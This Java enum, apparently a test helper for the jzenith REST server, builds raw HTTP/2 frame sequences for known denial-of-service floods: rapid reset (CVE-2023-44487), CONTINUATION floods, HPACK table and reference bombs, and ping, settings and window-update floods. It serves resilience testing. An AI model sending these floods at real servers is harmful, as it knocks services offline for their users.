package org.jzenith.rest.http2;

import io.netty.handler.codec.http2.Http2Error;
import io.vertx.core.buffer.Buffer;
import java.io.IOException;
import java.util.function.IntFunction;

/** What one client can send very often by HTTP/2, each time for a few bytes of its own. */
@SuppressWarnings("ImmutableEnumChecker") // Nobody changes the buffers.
enum Http2Flood {

    /** Requests that are reset at once (CVE-2023-44487). */
    RESETS(i -> get(stream(i), "/hello")
            .appendBuffer(Http2Frame.reset(stream(i), Http2Error.CANCEL).bytes())),
    /** Requests that are reset while they are answered slowly. */
    RESETS_OF_SLOW_REQUESTS(i -> get(stream(i), "/never")
            .appendBuffer(Http2Frame.reset(stream(i), Http2Error.CANCEL).bytes())),
    /** Requests that the server resets because of what comes behind them (CVE-2025-8671). */
    RESETS_BY_THE_SERVER(i -> get(stream(i), "/never")
            .appendBuffer(Http2Frame.windowUpdate(stream(i), 0).bytes())),
    /** One head that never ends, in small pieces (CVE-2024-27316). */
    SMALL_CONTINUATIONS(
            Http2Frame.headers(1, 0, block("GET", "/hello")).bytes(),
            i -> Http2Frame.continuation(1, 0, HeaderBlocks.literal("x: y")).bytes()),
    /** The same with pieces of nothing. */
    EMPTY_CONTINUATIONS(
            Http2Frame.headers(1, 0, block("GET", "/hello")).bytes(),
            i -> Http2Frame.continuation(1, 0, Buffer.buffer()).bytes()),
    /** The same with pieces as large as they may be. */
    LARGE_CONTINUATIONS(Http2Frame.headers(1, 0, block("GET", "/hello")).bytes(), i -> Http2Frame.continuation(
                    1, 0, HeaderBlocks.literal("x: " + "y".repeat(16_000)))
            .bytes()),
    /** Heads of very many short headers. */
    SHORT_HEADERS(i -> Http2Frame.headers(stream(i), 5, Constants.SHORT_HEADERS).bytes()),
    /** Heads of very many references to one long header, one byte each. */
    REFERENCES(
            Http2Frame.headers(1, 5, Constants.LONG_ENTRY).bytes(),
            i -> Http2Frame.headers(stream(i + 1), 5, Constants.REFERENCES).bytes()),
    /** Heads that change the dynamic table all the time. */
    TABLE_CHANGES(i -> Http2Frame.headers(stream(i), 5, Constants.TABLE_CHANGES).bytes()),
    /** Answers that fill a dynamic table of 4 GB. */
    TABLE_OF_ANSWERS(Http2Frame.settings(Http2Frame.HEADER_TABLE_SIZE, -1).bytes(), i -> get(stream(i), "/hello")),
    SETTINGS(
            i -> Http2Frame.settings(Http2Frame.INITIAL_WINDOW_SIZE, i & 0xffff).bytes()),
    EMPTY_SETTINGS(i -> Http2Frame.settings().bytes()),
    ACKNOWLEDGEMENTS(i -> Http2Frame.settingsAck().bytes()),
    PINGS(i -> Http2Frame.ping(0, i).bytes()),
    ANSWERS_TO_PINGS(i -> Http2Frame.ping(Http2Frame.ACK, i).bytes()),
    ENDS(i -> Http2Frame.goAway(0, Http2Error.NO_ERROR).bytes()),
    EMPTY_DATA(post(), i -> Http2Frame.data(1, 0, "").bytes()),
    /** Data that is nothing but padding. */
    PADDING(post(), i -> Http2Frame.data(1, Http2Frame.PADDED, "\u0003\0\0\0").bytes()),
    WINDOW_UPDATES(post(), i -> Http2Frame.windowUpdate(1, 1).bytes()),
    WINDOW_UPDATES_OF_THE_CONNECTION(i -> Http2Frame.windowUpdate(0, 1).bytes()),
    /** A tree of streams that do not exist. */
    PRIORITIES(i -> Http2Frame.priority(stream(i) + 2, stream(i), i & 0xff).bytes()),
    UNKNOWN_FRAMES(i -> new Http2Frame(200, i & 0xff, i, Buffer.buffer("x")).bytes()),
    /** Requests that are not answered, as many as are taken. */
    SLOW_REQUESTS(i -> get(stream(i), "/never"));

    /** They are not in the enum, which could not use them before they exist. */
    private static final class Constants {

        static final Buffer SHORT_HEADERS = block("GET", "/hello");
        static final Buffer LONG_ENTRY = block("GET", "/hello");
        static final Buffer REFERENCES = block("GET", "/hello");
        static final Buffer TABLE_CHANGES = Buffer.buffer();

        static {
            for (int i = 0; i < 3_000; i++) {
                SHORT_HEADERS.appendBuffer(HeaderBlocks.literal("x: "));
            }
            LONG_ENTRY.appendByte((byte) 0x40).appendByte((byte) 1).appendString("x");
            HeaderBlocks.appendText(LONG_ENTRY, "y".repeat(4_000));
            for (int i = 0; i < 16_000; i++) {
                REFERENCES.appendByte((byte) 0xbe); // The newest entry of the dynamic table.
            }
            for (int i = 0; i < 2; i++) {
                TABLE_CHANGES
                        .appendByte((byte) 0x20)
                        .appendBytes(new byte[] {0x3f, (byte) 0xe1, 0x1f}); // 0, then 4,096
            }
            TABLE_CHANGES.appendBuffer(block("GET", "/hello"));
        }
    }

    private final Buffer beginning;
    private final IntFunction<Buffer> next;

    Http2Flood(IntFunction<Buffer> next) {
        this(Buffer.buffer(), next);
    }

    Http2Flood(Buffer beginning, IntFunction<Buffer> next) {
        this.beginning = beginning;
        this.next = next;
    }

    private static int stream(int index) {
        return 2 * index + 1;
    }

    private static Buffer block(String method, String path) {
        return HeaderBlocks.literal(Http2Connection.lines(method, path));
    }

    private static Buffer get(int stream, String path) {
        return Http2Frame.headers(stream, Http2Frame.END_HEADERS | Http2Frame.END_STREAM, block("GET", path))
                .bytes();
    }

    private static Buffer post() {
        return Http2Frame.headers(1, Http2Frame.END_HEADERS, block("POST", "/length"))
                .bytes();
    }

    /** Sends this so many times, or until the server has had enough. */
    void run(Http2Connection connection, int times) {
        try {
            Buffer pending = beginning.copy();
            for (int i = 0; i < times; i++) {
                pending.appendBuffer(next.apply(i));
                if (pending.length() > 60_000) {
                    connection.send(pending);
                    pending = Buffer.buffer();
                }
            }
            connection.send(pending);
        } catch (IOException end) {
            // The server has closed the connection, or the test has.
        }
    }
}
